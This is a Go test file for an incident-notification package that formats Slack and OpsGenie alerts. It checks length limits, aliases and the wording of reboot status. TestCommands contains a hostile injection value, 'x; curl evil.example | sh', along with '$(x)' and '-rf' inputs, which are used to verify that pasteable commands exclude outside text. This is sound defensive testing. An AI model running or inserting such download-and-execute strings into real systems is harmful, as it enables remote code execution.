package notify

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/tools/txtar"

	"firstline/checks"
	"firstline/internal/incident"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// golden is one archive of testdata: a message, and what each channel makes of
// it.
type golden struct {
	name    string
	message Message
	archive *txtar.Archive
}

func goldens(t *testing.T) []golden {
	t.Helper()
	paths, err := filepath.Glob("testdata/*.txtar")
	if err != nil || len(paths) == 0 {
		t.Fatalf("golden files: %v, %d of them", err, len(paths))
	}
	all := make([]golden, 0, len(paths))
	for _, path := range paths {
		archive, err := txtar.ParseFile(path)
		if err != nil {
			t.Fatal(err)
		}
		var in struct {
			Incident   *incident.Incident `json:"incident"`
			AlarmState string             `json:"alarmState"`
			Deployment string             `json:"deployment"`
			Now        time.Time          `json:"now"`
			Alone      bool               `json:"alone"`
		}
		if err := json.Unmarshal(file(archive, "message.json"), &in); err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		all = append(all, golden{
			name:    strings.TrimSuffix(filepath.Base(path), ".txtar"),
			message: Message{Incident: in.Incident, AlarmState: in.AlarmState, Deployment: in.Deployment, Now: in.Now, Alone: in.Alone},
			archive: archive,
		})
	}
	return all
}

func file(archive *txtar.Archive, name string) []byte {
	for _, f := range archive.Files {
		if f.Name == name {
			return f.Data
		}
	}
	return nil
}

func message(t *testing.T, name string) Message {
	t.Helper()
	for _, g := range goldens(t) {
		if g.name == name {
			return g.message
		}
	}
	t.Fatalf("no testdata/%s.txtar", name)
	return Message{}
}

func TestGolden(t *testing.T) {
	t.Parallel()
	for _, g := range goldens(t) {
		t.Run(g.name, func(t *testing.T) {
			t.Parallel()
			r := describe(g.message)
			fallback, sections := r.slack()
			alert := (&OpsGenie{TeamID: "8f2a-team", Priority: "P2"}).alert(g.message)
			description := alert.Description
			alert.Description = "(above)"
			got := []txtar.File{
				{Name: "slack text", Data: []byte(fallback + "\n")},
				{Name: "slack sections", Data: []byte(strings.Join(sections, "\n----\n") + "\n")},
				{Name: "opsgenie description", Data: []byte(description + "\n")},
				{Name: "opsgenie alert.json", Data: encoded(t, alert)},
			}
			if r.fleet {
				note := noteOf(g.message)
				got = append(got, txtar.File{Name: "opsgenie note", Data: []byte(note.Note + "\n")})
				note.Note = "(above)"
				got = append(got, txtar.File{Name: "opsgenie note.json", Data: encoded(t, note)})
			}
			if *update {
				archive := &txtar.Archive{Files: append([]txtar.File{{Name: "message.json", Data: file(g.archive, "message.json")}}, got...)}
				if err := os.WriteFile("testdata/"+g.name+".txtar", txtar.Format(archive), 0o600); err != nil {
					t.Fatal(err)
				}
				return
			}
			for _, f := range got {
				if diff := cmp.Diff(string(file(g.archive, f.Name)), string(f.Data)); diff != "" {
					t.Errorf("%s (-want +got; -update rewrites):\n%s", f.Name, diff)
				}
			}
		})
	}
}

func encoded(t *testing.T, v any) []byte {
	t.Helper()
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	e.SetIndent("", "  ")
	if err := e.Encode(v); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// What must hold for every message, whatever the golden files say.
func TestEveryMessage(t *testing.T) {
	t.Parallel()
	for _, g := range goldens(t) {
		t.Run(g.name, func(t *testing.T) {
			t.Parallel()
			inc := g.message.Incident
			r := describe(g.message)
			fallback, sections := r.slack()
			alert := (&OpsGenie{Priority: "P1"}).alert(g.message)
			if faults := alertFaults(alert); len(faults) > 0 {
				t.Errorf("OpsGenie would refuse: %v", faults)
			}
			note := noteOf(g.message)
			if faults := noteFaults(note); len(faults) > 0 {
				t.Errorf("OpsGenie would refuse the note: %v", faults)
			}
			if runes(fallback) > limitSlackText {
				t.Errorf("Slack text has %d characters", runes(fallback))
			}
			for i, section := range sections {
				if runes(section) > limitSlackSection || section == "" {
					t.Errorf("section %d has %d characters", i, runes(section))
				}
			}
			for channel, text := range map[string]string{
				"slack text": fallback, "slack sections": strings.Join(sections, "\n"), "opsgenie": alert.Message + "\n" + alert.Description, "opsgenie note": note.Note,
			} {
				want := []string{g.message.Deployment, inc.Region, inc.AccountID, inc.InstanceID, "Next:", "It took 10m28s"}
				switch {
				case maybeRebooted(inc):
					want = append(want, "unknown")
					if strings.Contains(text, "No reboot was made") {
						t.Errorf("%s says that no reboot was made, which nobody knows", channel)
					}
				case inc.Reboot == nil:
					want = append(want, "No reboot was made.")
				}
				if inc.PageError != nil || inc.Paused != nil {
					want = append(want, "Nobody was paged")
				}
				if inc.Paused != nil {
					want = append(want, "paused until "+clock(inc.Paused.Until), "firstline resume --region "+inc.Region)
				}
				if inc.Refusal != nil && inc.Paused == nil && !strings.Contains(g.name, "hostile") {
					want = append(want, "was refused ("+inc.Refusal.Guard+"): "+inc.Refusal.Reason)
				}
				if name := inc.Execution.Name; inc.InstanceID != "" && !strings.Contains(name, "<") {
					want = append(want, "firstline incident "+name)
				}
				if onlyDry(inc) {
					want = append(want, DryLabel, "This message is real.")
				}
				if dry := inc.Dry || onlyDry(inc); dry != strings.Contains(text, DryLabel) || inc.Dry != strings.Contains(text, "nobody is told") {
					t.Errorf("%s: dry %v: %.200q", channel, dry, text)
				}
				for _, w := range want {
					if !strings.Contains(strings.ReplaceAll(text, "*", ""), w) {
						t.Errorf("%s: %q is missing", channel, w)
					}
				}
				if g.message.AlarmState != "OK" && strings.Contains(text, "normal") {
					t.Errorf("%s calls something normal that was not measured", channel)
				}
				if strings.HasPrefix(channel, "slack") && (strings.Contains(text, "<!") || strings.Contains(text, "<https://evil")) {
					t.Errorf("%s: text from outside can ping or link", channel)
				}
				if strings.ContainsAny(text, "\x00\x1b\u202e\r") {
					t.Errorf("%s: control characters came through", channel)
				}
			}
		})
	}
}

func TestAliasIsUniqueToTheInstance(t *testing.T) {
	t.Parallel()
	base := message(t, "down")
	seen := map[string]string{}
	vary := func(name string, change func(*Message, *incident.Incident)) {
		m, inc := base, *base.Incident
		m.Incident = &inc
		change(&m, &inc)
		got := alias(describe(m))
		if other, ok := seen[got]; ok {
			t.Errorf("%s and %s share the alias %q", name, other, got)
		}
		seen[got] = name
	}
	vary("the incident", func(*Message, *incident.Incident) {})
	vary("another account", func(_ *Message, i *incident.Incident) { i.AccountID = "210987654321" })
	vary("another region", func(_ *Message, i *incident.Incident) { i.Region = "eu-west-2" })
	vary("another instance", func(_ *Message, i *incident.Incident) { i.InstanceID = "i-0c1cbf2e7abdedf76" })
	vary("another deployment", func(m *Message, _ *incident.Incident) { m.Deployment = "staging" })
	brake := func(i *incident.Incident) {
		i.Reboot, i.Refusal = nil, &incident.Refusal{Guard: incident.GuardBrake, Reason: "2 in flight"}
	}
	vary("the brake", func(_ *Message, i *incident.Incident) { brake(i) })
	vary("the brake of another region", func(_ *Message, i *incident.Incident) { brake(i); i.Region = "eu-west-2" })
	vary("the brake of another account", func(_ *Message, i *incident.Incident) { brake(i); i.AccountID = "210987654321" })
	vary("the brake of another deployment", func(m *Message, i *incident.Incident) { brake(i); m.Deployment = "staging" })
	// Whatever an incident holds that was salvaged.
	vary("an account called brake", func(_ *Message, i *incident.Incident) { i.AccountID, i.Region = "brake", "123456789012:eu-west-1" })
	vary("no more parts", func(_ *Message, i *incident.Incident) {
		i.AccountID, i.Region, i.InstanceID = "brake", "", "123456789012:eu-west-1"
	})
	vary("parts in parts", func(m *Message, i *incident.Incident) {
		m.Deployment, i.AccountID, i.Region = "firstline/brake", "123456789012:eu-west-1", ""
	})
	vary("no incident", func(_ *Message, i *incident.Incident) { i.InstanceID = "" })
	vary("no incident, no alarm", func(_ *Message, i *incident.Incident) { i.InstanceID, i.Alarm = "", nil })
	vary("no incident, long names", func(_ *Message, i *incident.Incident) {
		i.InstanceID, i.Alarm = "", &incident.Alarm{Name: strings.Repeat("ä", 600)}
	})
	vary("no incident, other long names", func(_ *Message, i *incident.Incident) {
		i.InstanceID, i.Alarm = "", &incident.Alarm{Name: strings.Repeat("ä", 600) + "b"}
	})
	if _, ok := seen["firstline/123456789012/eu-west-1/i-0c1cbf2e7abdedf75"]; !ok {
		t.Errorf("aliases are %v", seen)
	}
	again := *base.Incident
	again.Execution.ID, again.Run = "arn:another", 1
	m := base
	m.Incident = &again
	if a, b := alias(describe(base)), alias(describe(m)); a != b {
		t.Errorf("two incidents of one instance have the aliases %q and %q", a, b)
	}
	// Every instance of a region has the brake's alias, unless it is alone.
	one, other := *base.Incident, *base.Incident
	brake(&one)
	brake(&other)
	other.InstanceID = "i-0c1cbf2e7abdedf76"
	a, b := base, base
	a.Incident, b.Incident = &one, &other
	o := &OpsGenie{}
	if o.Alias(a) != o.Alias(b) || o.Alias(a) != "firstline/brake/123456789012:eu-west-1" {
		t.Errorf("the brake has the aliases %q and %q", o.Alias(a), o.Alias(b))
	}
	a.Alone = true
	if got := o.Alias(a); got != o.Alias(base) {
		t.Errorf("alone, the instance has the alias %q, want its own: %q", got, o.Alias(base))
	}
	if got := o.Alias(Message{}); got != "" {
		t.Errorf("nothing has the alias %q", got)
	}
}

// Which errors of the step that reboots leave open whether it did.
func TestMaybeRebooted(t *testing.T) {
	t.Parallel()
	failed := []checks.Finding{{Run: 1, Check: "ssh", Reason: "no key exchange"}}
	for _, tt := range []struct {
		name string
		want bool
	}{
		{"InvalidInput", false},
		{"Denied", false},
		{"Unavailable", false},
		{"Lambda.TooManyRequestsException", false},
		{"Lambda.EC2ThrottledException", false},
		{"Lambda.ResourceNotReadyException", false},
		{"Internal", true},
		{"Lambda.Unknown", true},
		{"Lambda.ServiceException", true},
		{"Lambda.SdkClientException", true},
		{"Lambda.ClientExecutionTimeoutException", true},
		{"Sandbox.Timedout", true},
		{"Runtime.ExitError", true},
		{"Runtime.OutOfMemory", true},
		{"States.Timeout", true},
		{"States.TaskFailed", true},
		{"SomethingNew", true},
		{"", true},
	} {
		inc := &incident.Incident{InstanceID: "i-0c1cbf2e7abdedf75", Run: 1, Findings: failed, Error: &incident.Error{Error: tt.name}}
		text := strings.Join(describe(Message{Incident: inc}).summary, "\n")
		if got := maybeRebooted(inc); got != tt.want || strings.Contains(text, "It is unknown whether") != tt.want || strings.Contains(text, "No reboot was made.") == tt.want {
			t.Errorf("%q: got %v, want %v: %s", tt.name, got, tt.want, text)
		}
		inc.RebootError = &incident.Error{Error: "Unavailable", Cause: "the table does not answer"}
		if text := strings.Join(describe(Message{Incident: inc}).summary, "\n"); strings.Contains(text, "No reboot was made.") {
			t.Errorf("%q, and the table does not tell: %s", tt.name, text)
		}
		// Of a check that could not tell, no reboot can follow.
		inc.Findings, inc.RebootError = nil, nil
		if maybeRebooted(inc) {
			t.Errorf("%q of a check: maybe rebooted", tt.name)
		}
		// EC2 is asked for a dry run only, unless it took that for none.
		inc.Findings, inc.Dry = failed, true
		if got := maybeRebooted(inc); got != (tt.name == "Internal") {
			t.Errorf("%q of a dry incident: %v", tt.name, got)
		}
		inc.Dry, inc.Settings = false, &incident.Settings{Reboot: incident.RebootSettings{DryRun: true}}
		if got := maybeRebooted(inc); got != (tt.name == "Internal") {
			t.Errorf("%q of a dry setting: %v", tt.name, got)
		}
	}
}

// Every guard has words of its own, short enough for an alert's message with the
// longest that can stand before them.
func TestEveryGuard(t *testing.T) {
	t.Parallel()
	unknown := describe(Message{Incident: &incident.Incident{InstanceID: "i-0c1cbf2e7abdedf75", Refusal: &incident.Refusal{Guard: incident.GuardFreshness}}})
	if strings.Contains(unknown.headline, "too old") {
		t.Errorf("an age that is not known is called too old: %s", unknown.headline)
	}
	seen := map[string]string{}
	for _, name := range []string{
		incident.GuardPause, incident.GuardFreshness, incident.GuardState, incident.GuardBaseline, incident.GuardCoolDown,
		incident.GuardBudget, incident.GuardBrake, incident.GuardLease,
	} {
		inc := &incident.Incident{
			InstanceID: "i-0c1cbf2e7abdedf75", Region: "ap-southeast-1", AccountID: "123456789012", Run: 1,
			Settings: &incident.Settings{Reboot: incident.RebootSettings{DryRun: true, PerDay: 2}},
			Findings: []checks.Finding{{Run: 1, Check: "route53", Reason: "no checker succeeded"}},
			Refusal:  &incident.Refusal{Guard: name, Reason: "2 reboots in flight, at most 2"},
			EventAt:  time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC),
		}
		r := describe(Message{Incident: inc})
		a := (&OpsGenie{}).alert(Message{Incident: inc})
		if a.Message != r.headline {
			t.Errorf("%s: the alert's message is cut: %s", name, a.Message)
		}
		for _, text := range []string{r.headline, r.next} {
			if other, ok := seen[text]; ok {
				t.Errorf("%s and %s both say %q", name, other, text)
			}
			seen[text] = name
		}
		if a.Details["guard"] != name || a.Details["refusal"] != inc.Refusal.Reason || !slices.Contains(a.Tags, name) || !slices.Contains(a.Tags, "dry-run") {
			t.Errorf("%s: details %v, tags %v", name, a.Details, a.Tags)
		}
	}
}

// A command in a message is there to be pasted: nothing from outside gets into it.
func TestCommands(t *testing.T) {
	t.Parallel()
	const evil = "x; curl evil.example | sh"
	for _, inc := range []*incident.Incident{
		{InstanceID: evil, Region: evil, Execution: incident.Execution{ID: "arn:" + evil, Name: evil}},
		{InstanceID: "--help", Region: "--help", Execution: incident.Execution{ID: "arn:--help", Name: "--help"}},
		{InstanceID: "i-0c1cbf2e7abdedf75 x", Region: "eu-west-1 $(x)", Execution: incident.Execution{Name: "-rf"}},
	} {
		r := describe(Message{Incident: inc})
		if got := r.record + r.incidents(true) + r.resume(incident.PauseInstance) + r.resume(incident.PauseRegion); got != "firstline incidentsfirstline resumefirstline resume" {
			t.Errorf("%q", got)
		}
	}
	inc := &incident.Incident{InstanceID: "i-0c1cbf2e7abdedf75", Region: "eu-west-1", Execution: incident.Execution{ID: "arn:aws:states:eu-west-1:123456789012:execution:m:standing-i-0c1cbf2e7abdedf75-1795341600"}}
	r := describe(Message{Incident: inc})
	for got, want := range map[string]string{
		r.record:                         "firstline incident standing-i-0c1cbf2e7abdedf75-1795341600",
		r.incidents(true):                "firstline incidents --region eu-west-1 --instance i-0c1cbf2e7abdedf75",
		r.incidents(false):               "firstline incidents --region eu-west-1",
		r.resume(incident.PauseInstance): "firstline resume --region eu-west-1 --instance i-0c1cbf2e7abdedf75",
		r.resume(incident.PauseRegion):   "firstline resume --region eu-west-1",
	} {
		if got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestPauseSentence(t *testing.T) {
	t.Parallel()
	until := time.Date(2026, 11, 22, 18, 0, 0, 0, time.UTC)
	for _, tt := range []struct {
		pause incident.Pause
		want  string
	}{
		{incident.Pause{Until: until, Scope: incident.PauseInstance}, "The instance is paused until 2026-11-22 18:00:00 UTC, by its tag firstline:pause; the tag does not say by whom."},
		{incident.Pause{Until: until, Scope: incident.PauseInstance, By: "anna"}, "The instance is paused until 2026-11-22 18:00:00 UTC, by its tag firstline:pause; set by anna."},
		{incident.Pause{Until: until, Scope: incident.PauseRegion, By: "arn:aws:iam::1:user/ben\n"}, "The whole region eu-west-1 is paused until 2026-11-22 18:00:00 UTC, by its switch; set by arn:aws:iam::1:user/ben."},
		{incident.Pause{Until: until, Scope: incident.PauseRegion}, "The whole region eu-west-1 is paused until 2026-11-22 18:00:00 UTC, by its switch; it is not known by whom."},
		{incident.Pause{}, "The instance is paused until a time that is not known, by its tag firstline:pause; the tag does not say by whom."},
	} {
		if got := (&report{region: "eu-west-1"}).pauseSentence(&tt.pause); got != tt.want {
			t.Errorf("got  %s\nwant %s", got, tt.want)
		}
	}
}

func TestReasonOf(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name string
		err  *incident.Error
		want string
	}{
		{"none", nil, "no reason given"},
		{"function", &incident.Error{Error: "Denied", Cause: `{"errorMessage":"no","errorType":"Denied"}`}, "Denied: no"},
		{"function without name", &incident.Error{Cause: `{"errorMessage":"no","errorType":"Denied"}`}, "Denied: no"},
		{"plain", &incident.Error{Error: "Lambda.Unknown", Cause: "gone"}, "Lambda.Unknown: gone"},
		{"time-out", &incident.Error{Error: "States.Timeout"}, "States.Timeout: the step ran out of time"},
		{"empty", &incident.Error{}, "no reason given"},
		{"broken JSON", &incident.Error{Error: "X", Cause: `{"errorMessage":"cut o`}, `X: {"errorMessage":"cut o`},
		{"other JSON", &incident.Error{Error: "X", Cause: `{"a":1}`}, `X: {"a":1}`},
		{"JSON of other types", &incident.Error{Error: "X", Cause: `{"errorMessage":{"a":1}}`}, `X: {"errorMessage":{"a":1}}`},
		{"control characters", &incident.Error{Error: "X\n", Cause: "a\x00b\r\nc\u202ed"}, "X: a b cd"},
	} {
		if got := reasonOf(tt.err); got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestConsoleLinks(t *testing.T) {
	t.Parallel()
	const exec = "arn:aws:states:eu-west-1:123456789012:execution:m:e"
	const id = "i-0c1cbf2e7abdedf75"
	for _, tt := range []struct {
		name                                       string
		partition, region, execution, instance, al string
		want                                       []string
	}{
		{"all", "aws", "eu-west-1", exec, id, "a b/ü&<c>|d+e", []string{
			"https://console.aws.amazon.com/states/home?region=eu-west-1#/v2/executions/details/" + exec,
			"https://console.aws.amazon.com/ec2/home?region=eu-west-1#InstanceDetails:instanceId=" + id,
			"https://console.aws.amazon.com/cloudwatch/home?region=eu-west-1#alarmsV2:alarm/a%20b%2F%C3%BC%26%3Cc%3E%7Cd%2Be",
		}},
		{"bad execution", "aws", "eu-west-1", "arn:aws:states:eu-west-1:1:execution:m:e", id, "", []string{"https://console.aws.amazon.com/ec2/home?region=eu-west-1#InstanceDetails:instanceId=" + id}},
		{"execution with markup", "aws", "", exec + "|x>", "", "", nil},
		{"bad instance", "aws", "eu-west-1", "", "i-xyz", "", nil},
		{"bad region", "aws", "eu-west-1&x=<", "", id, "a", nil},
		{"unknown partition", "aws-iso", "us-iso-east-1", exec, id, "a", nil},
	} {
		var got []string
		for _, l := range consoleLinks(tt.partition, tt.region, tt.execution, tt.instance, tt.al) {
			got = append(got, l.url)
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.name, diff)
		}
	}
	for region, want := range map[string]string{"eu-west-1": "aws", "cn-north-1": "aws-cn", "us-gov-east-1": "aws-us-gov", "us-iso-east-1": "", "nonsense": ""} {
		if got := partitionOf(region, ""); got != want {
			t.Errorf("partition of %s is %q, want %q", region, got, want)
		}
	}
	if got := partitionOf("eu-west-1", "nonsense", "arn:aws-cn:cloudwatch:cn-north-1:123456789012:alarm:a"); got != "aws-cn" {
		t.Errorf("the ARN's partition does not decide: %q", got)
	}
}

// A very long incident stays within the limits and keeps what matters.
func TestLongIncident(t *testing.T) {
	t.Parallel()
	m := message(t, "hostile")
	inc := *m.Incident
	for range 100 {
		inc.Findings = append(inc.Findings, inc.Findings[0])
	}
	inc.PageError = &incident.Error{Error: "Denied", Cause: strings.Repeat("<&>", 5000)}
	m.Incident = &inc
	m.Deployment = strings.Repeat("ü", 3000)
	r := describe(m)
	fallback, sections := r.slack()
	if runes(fallback) > limitSlackText || !strings.HasPrefix(fallback, "*Pager failed: i-0c1cbf2e7abdedf75 in eu-west-1 failed the URL check") {
		t.Errorf("%d characters: %.200q", runes(fallback), fallback)
	}
	for i, s := range sections {
		if runes(s) > limitSlackSection {
			t.Errorf("section %d has %d characters", i, runes(s))
		}
	}
	if faults := alertFaults((&OpsGenie{}).alert(m)); len(faults) > 0 {
		t.Errorf("OpsGenie would refuse: %v", faults)
	}
	if len(r.looks) != maxLooks+1 {
		t.Errorf("%d lines of findings", len(r.looks))
	}
}
